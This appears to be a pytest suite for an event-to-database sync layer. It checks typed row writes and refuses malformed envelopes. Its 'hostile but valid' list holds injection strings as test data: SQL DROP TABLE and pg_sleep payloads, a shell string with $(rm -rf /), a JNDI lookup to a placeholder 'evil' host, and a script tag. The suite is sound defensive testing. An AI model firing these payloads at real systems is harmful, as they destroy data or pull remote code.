from __future__ import annotations

import copy
import json
import tomllib
import uuid
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest

from cdc.bus.incoming import Envelope, Invalid, comes_from, parse_message
from cdc.core.tables import TableRef
from sync_back.mapping import Mapping, load_mappings
from sync_back.rows import RowWrite, to_write

MAPPINGS = load_mappings(
    tomllib.loads("""
[[sync_back.mappings]]
detail_type = "OrderPlaced"
source = "shop.orders"
table = "public.orders"
op = "upsert"
key = ["id"]
version_column = "updated_at"
root = "order"
[sync_back.mappings.columns]
id = { path = "id", type = "int" }
total = { path = "total", type = "numeric" }
customer = { path = "customer.name", type = "text", max_length = 200 }
updated_at = { path = "updated_at", type = "timestamptz" }
placed_local = { path = "placed_local", type = "timestamp" }
ship_date = { path = "ship_date", type = "date" }
ref = { path = "ref", type = "uuid" }
paid = { path = "paid", type = "bool" }
weight = { path = "weight", type = "float" }
meta = { path = "meta", type = "json" }
note = { path = "note", type = "text", required = false }
first_sku = { path = "lines.0.sku", type = "text", required = false }

[[sync_back.mappings]]
detail_type = "OrderDeleted"
table = "orders"
op = "delete"
key = ["id"]
id_path = ""
conflict = "legacy_wins"
strict = true
[sync_back.mappings.columns]
id = { path = "order_id", type = "int" }
""")["sync_back"]
)

DETAIL: dict[str, Any] = {
    "id": "evt-0001",
    "order": {
        "id": 42,
        "total": "1234.50",
        "customer": {"name": "Ada Lovelace"},
        "updated_at": "2026-11-28T17:45:52.123456Z",
        "placed_local": "2026-11-28T18:45:52",
        "ship_date": "2026-12-01",
        "ref": "6f1c8a52-3c1e-5a0b-9d7e-2f4b8c6d1e90",
        "paid": True,
        "weight": 1.25,
        "meta": {"tags": ["gift"], "rank": 3},
        "note": "leave at the door",
        "lines": [{"sku": "W-1", "qty": 2}],
    },
}
ENVELOPE: dict[str, Any] = {
    "version": "0",
    "id": "0d5e3c2a-8f0b-4a51-9c1e-7c2f0e0b6a11",
    "detail-type": "OrderPlaced",
    "source": "shop.orders",
    "account": "123456789012",
    "time": "2026-11-28T17:45:53Z",
    "region": "eu-west-1",
    "resources": [],
    "detail": DETAIL,
}
# A placeholder that ``body`` swaps for raw JSON text (NaN, 1e999999, deep nesting ...).
RAW = "@@raw@@"
_ABSENT = object()


def body(edits: dict[str, Any] | None = None, raw: str | None = None, **envelope: Any) -> str:
    """The valid event's body with Detail paths changed (``_ABSENT`` removes one) and
    envelope keys changed (``_ABSENT`` removes one, ``detail_type`` means ``detail-type``)."""
    document = copy.deepcopy(ENVELOPE)
    for path, value in (edits or {}).items():
        *parents, last = path.split(".")
        node = document["detail"]
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node[part]
        if value is _ABSENT:
            del node[last]
        else:
            node[last] = value
    for name, value in envelope.items():
        name = name.replace("_", "-")
        if value is _ABSENT:
            del document[name]
        else:
            document[name] = value
    text = json.dumps(document, ensure_ascii=False)
    return text if raw is None else text.replace(json.dumps(RAW), raw)


def write_of(text: str) -> RowWrite:
    envelope = parse_message(text)
    mapping = MAPPINGS.find(envelope.detail_type, envelope.source)
    assert mapping is not None
    return to_write(envelope, mapping)


def reason_of(text: str) -> str:
    with pytest.raises(Invalid) as caught:
        write_of(text)
    return caught.value.reason


VALID = body()


def test_the_valid_event_becomes_a_typed_row_write() -> None:
    write = write_of(VALID)
    assert write == RowWrite(
        event_id="evt-0001",
        table=TableRef("public", "orders"),
        op="upsert",
        key={"id": 42},
        values={
            "id": 42,
            "total": Decimal("1234.50"),
            "customer": "Ada Lovelace",
            "updated_at": datetime(2026, 11, 28, 17, 45, 52, 123456, tzinfo=UTC),
            "placed_local": datetime(2026, 11, 28, 18, 45, 52),
            "ship_date": date(2026, 12, 1),
            "ref": uuid.UUID("6f1c8a52-3c1e-5a0b-9d7e-2f4b8c6d1e90"),
            "paid": True,
            "weight": 1.25,
            "meta": '{"tags":["gift"],"rank":3}',
            "note": "leave at the door",
            "first_sku": "W-1",
        },
        version=datetime(2026, 11, 28, 17, 45, 52, 123456, tzinfo=UTC),
        policy="newer_wins",
    )
    assert type(write.values["weight"]) is float and type(write.values["id"]) is int


def test_the_envelope_keeps_its_fields_and_raw_body() -> None:
    envelope = parse_message(VALID)
    assert envelope == Envelope(
        envelope_id="0d5e3c2a-8f0b-4a51-9c1e-7c2f0e0b6a11",
        source="shop.orders",
        detail_type="OrderPlaced",
        time=datetime(2026, 11, 28, 17, 45, 53, tzinfo=UTC),
        detail=envelope.detail,
        body=VALID,
    )
    assert envelope.detail["order"]["id"] == 42
    assert parse_message(body(time=_ABSENT)).time is None
    # Keys AWS may add later are ignored
    assert parse_message(body(**{"replay_name": "r1"})).detail_type == "OrderPlaced"


def test_a_missing_optional_field_is_left_out_and_a_null_one_is_written_as_null() -> None:
    # Left out: a partial event must not blank what the legacy row holds.
    write = write_of(body({"order.note": _ABSENT, "order.lines": _ABSENT}))
    assert "note" not in write.values and "first_sku" not in write.values
    write = write_of(body({"order.note": None, "order.lines": []}))
    assert write.values["note"] is None and "first_sku" not in write.values
    write = write_of(body({"order.lines": [None]}))
    assert "first_sku" not in write.values


def test_numbers_keep_every_digit() -> None:
    write = write_of(
        body(
            {"order.total": RAW, "order.meta": RAW},
            raw="12345678901234567890.123456789012345678901",
        )
    )
    assert write.values["total"] == Decimal("12345678901234567890.123456789012345678901")
    assert write.values["meta"] == "12345678901234567890.123456789012345678901"
    assert write_of(body({"order.total": 7})).values["total"] == Decimal(7)
    assert write_of(body({"order.total": "-0.5e3"})).values["total"] == Decimal("-500")
    assert write_of(body({"order.weight": 3})).values["weight"] == 3.0


def test_json_columns_hold_lossless_json_text() -> None:
    meta = {"a": [1, None, True, False, 'é\n"q"'], "b": {"c": {}}, "d": []}
    text = write_of(body({"order.meta": meta})).values["meta"]
    assert json.loads(text) == meta
    text = write_of(body({"order.meta": RAW}, raw='{"x": 1.10, "y": 1E+5}')).values["meta"]
    assert text == '{"x":1.10,"y":1E+5}'


def test_timestamptz_keeps_its_offset_and_the_version_is_that_value() -> None:
    write = write_of(body({"order.updated_at": "2026-11-28T19:45:52+02:00"}))
    expected = datetime(2026, 11, 28, 19, 45, 52, tzinfo=timezone(timedelta(hours=2)))
    assert write.values["updated_at"] == expected and write.version == expected


def test_the_event_id_falls_back_to_the_envelope_id() -> None:
    assert write_of(body({"id": _ABSENT})).event_id == ENVELOPE["id"]
    deleted = {"order_id": 42}
    write = write_of(body(detail_type="OrderDeleted", detail=deleted))
    assert write.event_id == ENVELOPE["id"]
    assert write.op == "delete" and write.key == {"id": 42} and write.values == {"id": 42}
    assert write.table == TableRef("public", "orders")
    assert write.policy == "legacy_wins" and write.version is None


def test_a_strict_mapping_refuses_fields_it_does_not_use() -> None:
    text = body(detail_type="OrderDeleted", detail={"order_id": 42, "reason": "fraud"})
    assert reason_of(text) == "reason: not used by any column, and the mapping is strict"


def test_strict_walks_under_the_root_into_mapped_objects_and_lists() -> None:
    mapping = Mapping.model_validate(
        {
            "detail_type": "X",
            "table": "t",
            "op": "upsert",
            "key": ["id"],
            "root": "order",
            "id_path": "meta.event_id",
            "strict": True,
            "columns": {
                "id": {"path": "id", "type": "int"},
                "name": {"path": "customer.name", "type": "text"},
                "sku": {"path": "lines.0.sku", "type": "text"},
                "extra": {"path": "extra", "type": "json"},
            },
        }
    )

    def envelope(detail: dict[str, Any]) -> Envelope:
        return Envelope("env", "s", "X", None, detail, "{}")

    order = {"id": 1, "customer": {"name": "a"}, "lines": [{"sku": "x"}], "extra": {"any": [1]}}
    detail = {"meta": {"event_id": "e1", "trace": "t"}, "order": order}
    # Fields beside the root are not the mapping's business; inside it, every one must be used
    assert to_write(envelope(detail), mapping).event_id == "e1"
    for extra, path in [
        ({"customer": {"name": "a", "age": 3}}, "order.customer.age"),
        ({"lines": [{"sku": "x", "qty": 1}]}, "order.lines.0.qty"),
        ({"lines": [{"sku": "x"}, {"sku": "y"}]}, "order.lines.1"),
        ({"total": 1}, "order.total"),
    ]:
        with pytest.raises(Invalid) as caught:
            to_write(envelope({**detail, "order": {**order, **extra}}), mapping)
        assert caught.value.reason.startswith(f"{path}: not used")


@pytest.mark.parametrize(
    ("source", "original", "expected"),
    [
        ("legacy.shop", "legacy.shop", True),
        ("valid.legacy.shop", "legacy.shop", True),
        ("valid.valid.valid.legacy.shop", "legacy.shop", True),
        ("legacy.shopx", "legacy.shop", False),
        ("valid.legacy.shopx", "legacy.shop", False),
        ("xvalid.legacy.shop", "legacy.shop", False),
        ("valid.", "legacy.shop", False),
        ("shop.orders", "legacy.shop", False),
        ("valid.x", "valid.x", True),  # a source that itself starts with valid.
        ("valid.valid.x", "valid.x", True),
        ("x", "valid.x", False),
    ],
)
def test_an_event_comes_from_its_source_directly_or_through_the_validator(
    source: str, original: str, expected: bool
) -> None:
    assert comes_from(source, original) is expected


def test_a_big_detail_at_the_limit_is_fine_and_one_byte_more_is_refused() -> None:
    text = body({"order.note": "x" * 1000})
    size = len(text.encode())
    assert parse_message(text, max_bytes=size).detail_type == "OrderPlaced"
    with pytest.raises(Invalid) as caught:
        parse_message(text, max_bytes=size - 1)
    assert caught.value.reason == f"body is {size} bytes, over {size - 1}"


# -- the corpus: malformed or hostile events, each refused with a reason naming the field -----

DEEP_DETAIL = '{"a":' * 1000 + "1" + "}" * 1000
DEEPER_LIST = "[" * 100_000 + "]" * 100_000

MALFORMED: list[tuple[str, str, str]] = [
    # (name, body, what the reason must contain)
    ("not JSON", "hello, world", "body is not JSON"),
    ("truncated JSON", VALID[: len(VALID) // 2], "body is not JSON"),
    ("empty body", "", "body is empty"),
    ("blank body", " \n\t", "body is empty"),
    ("JSON array", json.dumps([ENVELOPE]), "body is a JSON array"),
    ("JSON string", json.dumps("OrderPlaced"), "body is a string"),
    ("JSON null", "null", "body is null"),
    ("NaN literal", body({"order.total": RAW}, raw="NaN"), "body is not JSON: NaN"),
    ("Infinity literal", body({"order.weight": RAW}, raw="-Infinity"), "-Infinity"),
    ("duplicate key", body({"order.total": RAW}, raw='"1", "total": "2"'), "'total' twice"),
    ("oversized body", body({"order.note": "x" * 300_000}), "bytes, over 262144"),
    ("1000 levels deep", body(detail=RAW, raw=DEEP_DETAIL), "nested too deeply"),
    ("100000 levels deep", body({"order.meta": RAW}, raw=DEEPER_LIST), "nested too deeply"),
    (
        "integer of 5000 digits",
        body({"order.total": RAW}, raw="9" * 5000),
        "an integer has more than",
    ),
    (
        "index into a list by name",
        body({"order.customer": [{"name": "Ada"}]}),
        "order.customer.name (column customer): order.customer is a list, which has no field 'name'",
    ),
    ("missing detail", body(detail=_ABSENT), "missing 'detail'"),
    ("detail a string", body(detail="{}"), "'detail' is not an object (got a string)"),
    ("detail null", body(detail=None), "'detail' is not an object (got null)"),
    ("detail a list", body(detail=[DETAIL]), "'detail' is not an object"),
    ("missing detail-type", body(detail_type=_ABSENT), "missing 'detail-type'"),
    ("detail-type a number", body(detail_type=7), "'detail-type' is not a non-empty string"),
    ("detail-type empty", body(detail_type=""), "'detail-type' is not a non-empty string"),
    ("detail-type with NUL", body(detail_type="Order\x00Placed"), "'detail-type' contains a NUL"),
    ("missing source", body(source=_ABSENT), "missing 'source'"),
    ("missing envelope id", body(id=_ABSENT), "missing 'id'"),
    ("time not ISO", body(time="yesterday"), "'time' is not an ISO 8601 time"),
    ("time without zone", body(time="2026-11-28T17:45:53"), "'time' has no time zone"),
    ("root missing", body({"order": _ABSENT}), "order: missing"),
    ("root a list", body({"order": [DETAIL["order"]]}), "order: expected an object, got a list"),
    ("root a string", body({"order": "42"}), "order: expected an object, got '42'"),
    ("event id a number", body({"id": 7}), "event id at 'id': missing or not a string (got 7)"),
    ("event id null", body({"id": None}), "event id at 'id': missing or not a string"),
    ("event id empty", body({"id": ""}), "event id at 'id': missing or not a string"),
    ("event id too long", body({"id": "e" * 300}), "event id at 'id': 300 characters"),
    ("event id with NUL", body({"id": "evt\x001"}), "event id at 'id': contains a NUL"),
    (
        "null key",
        body({"order.id": None}),
        "order.id (column id): null, but the column is required",
    ),
    ("null total", body({"order.total": None}), "order.total (column total): null"),
    ("null bool", body({"order.paid": None}), "order.paid (column paid): null"),
    (
        "customer a string",
        body({"order.customer": "Ada"}),
        "order.customer.name (column customer): order.customer is 'Ada', which has no field 'name'",
    ),
    (
        "customer null",
        body({"order.customer": None}),
        "order.customer.name (column customer): missing",
    ),
    (
        "lines a string",
        body({"order.lines": "W-1"}),
        "order.lines.0.sku (column first_sku): order.lines is 'W-1', which has no field '0'",
    ),
    # wrong type for each column type
    ("string for int", body({"order.id": "42"}), "order.id (column id): expected int, got '42'"),
    ("float for int", body({"order.id": 42.5}), "order.id (column id): expected int, got 42.5"),
    ("integral float for int", body({"order.id": 42.0}), "order.id (column id): expected int"),
    (
        "int over 2**63",
        body({"order.id": 2**63}),
        "order.id (column id): 9223372036854775808 is out of the range",
    ),
    (
        "int under -2**63",
        body({"order.id": -(2**63) - 1}),
        "order.id (column id): -9223372036854775809 is out",
    ),
    ("bool for int", body({"order.id": True}), "order.id (column id): expected int, got true"),
    (
        "object for int",
        body({"order.id": {"$gt": 0}}),
        "order.id (column id): expected int, got an object",
    ),
    (
        "'NaN' numeric",
        body({"order.total": "NaN"}),
        "order.total (column total): expected numeric, got 'NaN'",
    ),
    (
        "'abc' numeric",
        body({"order.total": "abc"}),
        "order.total (column total): expected numeric, got 'abc'",
    ),
    (
        "'Infinity' numeric",
        body({"order.total": "Infinity"}),
        "order.total (column total): expected numeric",
    ),
    (
        "padded numeric",
        body({"order.total": " 12"}),
        "order.total (column total): expected numeric",
    ),
    (
        "underscored numeric",
        body({"order.total": "1_000"}),
        "order.total (column total): expected numeric",
    ),
    (
        "arabic digits numeric",
        body({"order.total": "\u0661\u0662"}),
        "order.total (column total): expected numeric",
    ),
    (
        "bool for numeric",
        body({"order.total": False}),
        "order.total (column total): expected numeric, got false",
    ),
    (
        "1e999999 numeric",
        body({"order.total": RAW}, raw="1e999999"),
        "order.total (column total): 1E+999999 is out of the range of numeric",
    ),
    (
        "'1e-999999' numeric",
        body({"order.total": "1e-999999"}),
        "order.total (column total): '1e-999999' is out of the range",
    ),
    (
        "1e999999 float",
        body({"order.weight": RAW}, raw="1e999999"),
        "order.weight (column weight): 1E+999999 is out of the range of float",
    ),
    ("huge int float", body({"order.weight": 10**400}), "order.weight (column weight): 1000000000"),
    (
        "string for float",
        body({"order.weight": "1.5"}),
        "order.weight (column weight): expected float",
    ),
    (
        "number for text",
        body({"order.customer.name": 42}),
        "order.customer.name (column customer): expected text, got 42",
    ),
    (
        "object for text",
        body({"order.customer.name": {"first": "Ada"}}),
        "order.customer.name (column customer): expected text, got an object",
    ),
    (
        "list for text",
        body({"order.customer.name": ["Ada"]}),
        "order.customer.name (column customer): expected text, got a list",
    ),
    (
        "text over max_length",
        body({"order.customer.name": "A" * 250}),
        "order.customer.name (column customer): 250 characters, over the maximum 200",
    ),
    (
        "NUL in text",
        body({"order.note": "leave\x00here"}),
        "order.note (column note): contains a NUL character",
    ),
    (
        "lone surrogate",
        body({"order.note": RAW}, raw='"\\ud800"'),
        "order.note (column note): contains an unpaired surrogate",
    ),
    (
        "naive timestamptz",
        body({"order.updated_at": "2026-11-28T17:45:52"}),
        "order.updated_at (column updated_at): expected timestamptz, got '2026-11-28T17:45:52' (no time zone",
    ),
    (
        "'yesterday' timestamptz",
        body({"order.updated_at": "yesterday"}),
        "order.updated_at (column updated_at): expected timestamptz",
    ),
    (
        "epoch timestamptz",
        body({"order.updated_at": 1764351952}),
        "order.updated_at (column updated_at): expected timestamptz",
    ),
    (
        "date-only timestamptz",
        body({"order.updated_at": "2026-11-28"}),
        "order.updated_at (column updated_at): ",
    ),
    (
        "aware timestamp",
        body({"order.placed_local": "2026-11-28T18:45:52Z"}),
        "order.placed_local (column placed_local): expected timestamp, got '2026-11-28T18:45:52Z' (has a time zone",
    ),
    (
        "'2026-13-45' date",
        body({"order.ship_date": "2026-13-45"}),
        "order.ship_date (column ship_date): expected date",
    ),
    (
        "datetime for date",
        body({"order.ship_date": "2026-12-01T10:00:00"}),
        "order.ship_date (column ship_date): ",
    ),
    (
        "number for date",
        body({"order.ship_date": 20261201}),
        "order.ship_date (column ship_date): expected date",
    ),
    (
        "bad uuid",
        body({"order.ref": "not-a-uuid"}),
        "order.ref (column ref): expected uuid, got 'not-a-uuid'",
    ),
    (
        "short uuid",
        body({"order.ref": "6f1c8a52-3c1e-5a0b-9d7e"}),
        "order.ref (column ref): expected uuid",
    ),
    (
        "int for uuid",
        body({"order.ref": 123}),
        "order.ref (column ref): expected uuid (a string), got 123",
    ),
    (
        "int for bool",
        body({"order.paid": 1}),
        "order.paid (column paid): expected bool (true or false), got 1",
    ),
    (
        "'true' for bool",
        body({"order.paid": "true"}),
        "order.paid (column paid): expected bool (true or false), got 'true'",
    ),
    (
        "NUL inside json",
        body({"order.meta": {"k": "a\x00b"}}),
        "order.meta (column meta): a string in the value contains a NUL",
    ),
    (
        "NUL json key",
        body({"order.meta": {"a\x00": 1}}),
        "order.meta (column meta): a string in the value contains a NUL",
    ),
    (
        "huge number in json",
        body({"order.meta": RAW}, raw="[1e999999]"),
        "order.meta (column meta): the number 1E+999999",
    ),
]
# Each required field missing in turn.
MALFORMED += [
    (f"missing {path}", body({path: _ABSENT}), f"{path} (column {column}): missing")
    for path, column in [
        ("order.id", "id"),
        ("order.total", "total"),
        ("order.customer.name", "customer"),
        ("order.updated_at", "updated_at"),
        ("order.placed_local", "placed_local"),
        ("order.ship_date", "ship_date"),
        ("order.ref", "ref"),
        ("order.paid", "paid"),
        ("order.weight", "weight"),
        ("order.meta", "meta"),
    ]
]


def test_the_corpus_is_large_and_its_names_are_unique() -> None:
    assert len(MALFORMED) >= 40
    assert len({name for name, _, _ in MALFORMED}) == len(MALFORMED)


@pytest.mark.parametrize(
    ("text", "needle"), [(b, n) for _, b, n in MALFORMED], ids=[name for name, _, _ in MALFORMED]
)
def test_a_malformed_event_is_refused_with_a_reason_naming_the_field(
    text: str, needle: str
) -> None:
    reason = reason_of(text)
    assert needle in reason
    # Reasons go into a dead-letter table and logs: short, whatever the input's size.
    assert len(reason) < 300


HOSTILE_BUT_VALID: list[tuple[str, str]] = [
    ("SQL injection", "'; DROP TABLE orders; --"),
    ("Bobby Tables", "Robert'); DROP TABLE students;--"),
    ("quote and backslash soup", '\\\'"`\\\\"; --'),
    ("SQL comment and semicolon", "x */; SELECT pg_sleep(10); /*"),
    ("psycopg placeholders", "%s %(name)s $1 :name ?"),
    ("format strings", "{0} {__class__} %n %x"),
    ("shell and template injection", "$(rm -rf /) `id` ${jndi:ldap://evil/a} {{7*7}}"),
    ("HTML", "<script>alert(1)</script>"),
    ("RTL override", "\u202eredro\u202c"),
    ("zero-width and BOM", "A\u200bda\u200d\ufeff"),
    ("emoji", "🦄💥👩‍👩‍👧 order"),
    ("combining marks", "Z\u0351\u0362a\u0336l\u0337g\u0338o"),
    ("control characters", "line1\nline2\r\ttab\x1b[31mred\x07"),
    ("non-BMP CJK", "𠜎𠜱𠝹𠱓"),
    ("200 emoji, exactly the maximum", "😀" * 200),
    ("only spaces", "   "),
    ("a JSON document as text", '{"id": 1, "op": "delete"}'),
]


@pytest.mark.parametrize(
    "text", [t for _, t in HOSTILE_BUT_VALID], ids=[name for name, _ in HOSTILE_BUT_VALID]
)
def test_a_hostile_but_valid_string_is_accepted_as_plain_text(text: str) -> None:
    write = write_of(
        body(
            {
                "order.customer.name": text,
                "order.note": text,
                "order.meta": {text: [text]},
                "id": text[:200] or "e",
            }
        )
    )
    assert write.values["customer"] == text and write.values["note"] == text
    assert json.loads(write.values["meta"]) == {text: [text]}


def test_hostile_text_through_json_escapes_is_the_same_text() -> None:
    # An emoji written as a surrogate pair escape is one valid character, not a lone surrogate.
    write = write_of(body({"order.note": RAW}, raw='"\\ud83e\\udd84 \\u202e \\u0027; --"'))
    assert write.values["note"] == "🦄 \u202e '; --"


def test_other_valid_edge_values() -> None:
    assert write_of(body({"order.id": 2**63 - 1})).key == {"id": 2**63 - 1}
    assert write_of(body({"order.id": -(2**63)})).key == {"id": -(2**63)}
    assert write_of(body({"order.paid": False})).values["paid"] is False
    assert write_of(body({"order.ref": "6F1C8A523C1E5A0B9D7E2F4B8C6D1E90"})).values["ref"] == (
        uuid.UUID("6f1c8a52-3c1e-5a0b-9d7e-2f4b8c6d1e90")
    )
    extra = write_of(body({"order.unmapped": {"deep": [1, 2]}, "__proto__": {"x": 1}}))
    assert "unmapped" not in extra.values


@pytest.mark.parametrize("depth", [10, 100, 500, 900, 950, 990, 1000, 5000])
def test_nesting_at_any_depth_in_a_json_column_never_crashes(depth: int) -> None:
    text = body({"order.meta": RAW}, raw="[" * depth + "]" * depth)
    try:
        write = write_of(text)
    except Invalid as exc:
        assert "nested too deeply" in exc.reason
    else:
        assert write.values["meta"] == "[" * depth + "]" * depth
